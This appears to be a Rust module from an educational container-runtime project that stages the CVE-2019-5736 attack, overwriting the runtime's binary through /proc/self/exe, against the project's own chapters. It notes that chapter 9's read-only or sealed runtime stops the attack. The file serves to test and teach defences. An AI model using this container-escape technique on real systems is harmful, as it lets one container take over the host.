//! The runtime's own program, overwritten from inside: the next container is the
//! attacker's from the start.

use nix::mount::{MsFlags, mount};
use process::Step;

use crate::attack::places::IMAGE;
use crate::attack::program::{self, OURSELVES, RUNTIME};
use crate::attack::target::Attack;

pub const ATTACK: Attack = Attack {
    name: "runtime",
    title: "overwrite the runtime",
    tries: "be started as /proc/self/exe, which at that moment is the runtime's program, keep it \
            open, and write to it as soon as the runtime has ended.",
    why: "where the container's root is the owner of the file, nothing else is asked for. Chapter \
          8's root is nobody to the host, but if an ordinary user was the host, it is the same \
          user. Chapter 9's runtime runs from a read-only mount or from a sealed copy.",
    reference: "CVE-2019-5736, proc_pid_exe(5)",
    stopped_by: 9,
    run: |target| {
        program::install()?;
        if (1..3).contains(&target.chapter.number) {
            // As people do it for chroot, when there is no mount namespace to do it in.
            let place = format!("{IMAGE}/proc");
            mount(Some("/proc"), place.as_str(), None::<&str>, MsFlags::MS_BIND, None::<&str>)
                .step(|| format!("bind /proc to {place}"))?;
        }
        program::attack(target, target.prepare::<&str>(RUNTIME, &[], OURSELVES, &[]))
    },
    inside: |words| program::overwrite(&[ATTACK.name], words),
};
